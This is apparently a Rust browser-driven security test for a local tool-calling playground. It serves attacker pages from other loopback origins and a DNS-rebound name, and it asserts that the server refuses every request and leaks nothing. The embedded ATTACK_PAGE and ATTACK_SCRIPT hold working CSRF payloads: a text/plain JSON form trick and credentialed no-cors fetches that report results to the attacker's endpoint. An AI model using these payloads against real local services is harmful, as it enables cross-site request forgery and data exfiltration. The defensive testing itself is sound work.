//! Attacks from a real browser that holds a playground session: pages of
//! other loopback origins (another address, `127.0.0.2`; another port of
//! `127.0.0.1`, the same site, so its requests even carry the cookie) try
//! fetch, a form post, image and script tags against the API, and a
//! DNS-rebound name (`evil.test` resolves to 127.0.0.1 in the browser)
//! tries the page itself. What the browser shows proves nothing: the
//! checks are on the server side — no tool called, the approval hook never
//! asked, no governed operation, the requests did arrive and were refused
//! (the playground's log), and nothing of the servers reached the
//! attacker.

#[path = "support/lab.rs"]
mod lab;
#[path = "support/webdriver.rs"]
mod webdriver;

use std::io::Write;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::State;
use axum::http::header;
use axum::response::IntoResponse;
use axum::routing::{get, post};
use lab::Lab;
use webdriver::Browser;

/// The playground's log lines (this binary's subscriber).
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Captured {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

/// The attacker's site: its page (aimed at `target`) and what its script
/// reports back.
#[derive(Clone)]
struct Attacker {
    target: String,
    reports: Arc<Mutex<Vec<String>>>,
}

const ATTACK_PAGE: &str = r#"<!doctype html>
<html><head><title>attack</title></head><body>
<iframe name="sink" id="sink"></iframe>
<form id="json" method="POST" action="TARGET/api/call" enctype="text/plain" target="sink">
<input name='{"server":"lab","tool":"book_trip","arguments":{"city":"Oslo","nights":1},"pad":"' value='"}'>
</form>
<form id="plain" method="POST" action="TARGET/api/call" target="sink">
<input name="server" value="lab"><input name="tool" value="book_trip">
</form>
<img id="img" src="TARGET/api/servers">
<script id="tag" src="TARGET/api/namespace"></script>
<script src="/attack.js"></script>
</body></html>"#;

const ATTACK_SCRIPT: &str = r#"
const T = "TARGET";
const call = JSON.stringify({server: "lab", tool: "book_trip", arguments: {city: "Oslo", nights: 1}});
const report = (what, data) =>
  fetch("/report", {method: "POST", body: JSON.stringify({what, data})});
async function attempt(what, request) {
  try {
    const r = await request();
    let body = "";
    try { body = await r.text(); } catch (e) { body = "(unreadable)"; }
    await report(what, {status: r.status, type: r.type, body});
  } catch (e) {
    await report(what, {error: String(e)});
  }
}
function submitted(form) {
  return new Promise((done) => {
    const frame = document.getElementById("sink");
    const t = setTimeout(() => done("no load"), 5000);
    frame.addEventListener("load", () => { clearTimeout(t); done("loaded"); }, {once: true});
    document.getElementById(form).submit();
  });
}
(async () => {
  await attempt("fetch no-cors POST", () => fetch(T + "/api/call",
    {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"}, body: call}));
  await attempt("fetch cors POST", () => fetch(T + "/api/call",
    {method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body: call}));
  await attempt("fetch GET servers", () => fetch(T + "/api/servers", {credentials: "include"}));
  await attempt("fetch no-cors GET servers", () => fetch(T + "/api/servers", {mode: "no-cors", credentials: "include"}));
  for (const form of ["json", "plain"]) {
    const how = await submitted(form);
    let seen = "(unreadable)";
    try { seen = document.getElementById("sink").contentDocument.body.textContent; } catch (e) {}
    await report("form " + form, {how, seen});
  }
  const img = document.getElementById("img");
  await report("img", {complete: img.complete, width: img.naturalWidth});
  await report("script", {namespaceLeaked: typeof window.tools !== "undefined"});
  document.title = "done";
})();
"#;

async fn attack_page(State(a): State<Attacker>) -> impl IntoResponse {
    (
        [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
        ATTACK_PAGE.replace("TARGET", &a.target),
    )
}

async fn attack_script(State(a): State<Attacker>) -> impl IntoResponse {
    (
        [(header::CONTENT_TYPE, "text/javascript")],
        ATTACK_SCRIPT.replace("TARGET", &a.target),
    )
}

async fn record(State(a): State<Attacker>, body: String) {
    a.reports.lock().unwrap().push(body);
}

/// Serves the attacker's site on `ip` (a free port); its origin.
async fn attacker(ip: &str, target: &str, reports: Arc<Mutex<Vec<String>>>) -> String {
    let listener = tokio::net::TcpListener::bind(format!("{ip}:0"))
        .await
        .unwrap();
    let address: SocketAddr = listener.local_addr().unwrap();
    let app = Router::new()
        .route("/attack.html", get(attack_page))
        .route("/attack.js", get(attack_script))
        .route("/report", post(record))
        .with_state(Attacker {
            target: target.to_owned(),
            reports,
        });
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{address}")
}

#[tokio::test]
async fn pages_of_other_origins_and_a_rebound_name_cannot_drive_the_api() {
    let captured = Captured::default();
    let writer = captured.clone();
    tracing_subscriber::fmt()
        .with_max_level(tracing::Level::INFO)
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .init();

    let lab = Lab::start().await;
    let browser = Browser::start().await;
    // The browser holds a real session: the cookie is there to be abused.
    browser.goto(&lab.url).await;
    browser.wait("body[data-ready=true]").await;
    browser
        .wait_text(".server[data-server=lab] .status", "ready")
        .await;
    let audited_before = lab.audit.records().len();
    let logged_before = captured.text().len();

    let reports = Arc::new(Mutex::new(Vec::new()));
    let other_address = attacker("127.0.0.2", &lab.origin, Arc::clone(&reports)).await;
    let other_port = attacker("127.0.0.1", &lab.origin, Arc::clone(&reports)).await;
    for site in [&other_address, &other_port] {
        browser.goto(&format!("{site}/attack.html")).await;
        let deadline = std::time::Instant::now() + webdriver::PATIENCE;
        while browser.title().await != "done" {
            assert!(
                std::time::Instant::now() < deadline,
                "the attack page of {site} did not finish"
            );
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
    }
    browser.screenshot("attack").await;

    // A DNS-rebound name for the playground's address: the page itself is
    // refused, so no script of ours runs under that origin.
    let rebound = lab.origin.replace("127.0.0.1", "evil.test");
    browser.goto(&format!("{rebound}/")).await;
    browser
        .wait_text("body", "the Host header is not this playground's address")
        .await;
    assert!(browser.find_all("#servers").await.is_empty());

    // Server side: nothing ran.
    assert_eq!(lab.tool_calls(), 0, "a tool was called");
    assert!(
        lab.approvals.asked().is_empty(),
        "the approval hook was asked"
    );
    let audited = lab.audit.records();
    assert_eq!(
        audited.len(),
        audited_before,
        "governed operations ran: {:?}",
        &audited[audited_before..]
    );
    // The requests did arrive, and were refused.
    let log = captured.text()[logged_before..].to_owned();
    let refused = |method: &str, path: &str| {
        let request = format!("method={method} path=\"{path}\"");
        log.lines()
            .filter(|l| l.contains("playground refused a request") && l.contains(&request))
            .count()
    };
    // Per attacking site: the no-cors fetch and two forms post, the CORS
    // fetch stops at its refused preflight; the image and two fetches get
    // the servers, the script tag the namespace.
    assert!(refused("POST", "/api/call") >= 6, "{log}");
    assert!(refused("OPTIONS", "/api/call") >= 2, "{log}");
    assert!(refused("GET", "/api/servers") >= 6, "{log}");
    assert!(refused("GET", "/api/namespace") >= 2, "{log}");
    assert!(refused("GET", "/") >= 1, "the rebound page: {log}");
    // Nothing of the servers reached the attacker.
    let reports = reports.lock().unwrap().clone();
    assert_eq!(reports.len(), 2 * 8, "{reports:?}");
    for report in &reports {
        for data in ["demo-notes", "book_trip", "Booked", "instructions", "token"] {
            assert!(!report.contains(data), "{data} leaked: {report}");
        }
    }
    assert!(
        reports
            .iter()
            .any(|r| r.contains("\"what\":\"script\"") && r.contains("\"namespaceLeaked\":false"))
    );
    browser.quit().await;
    lab.stop().await;
}
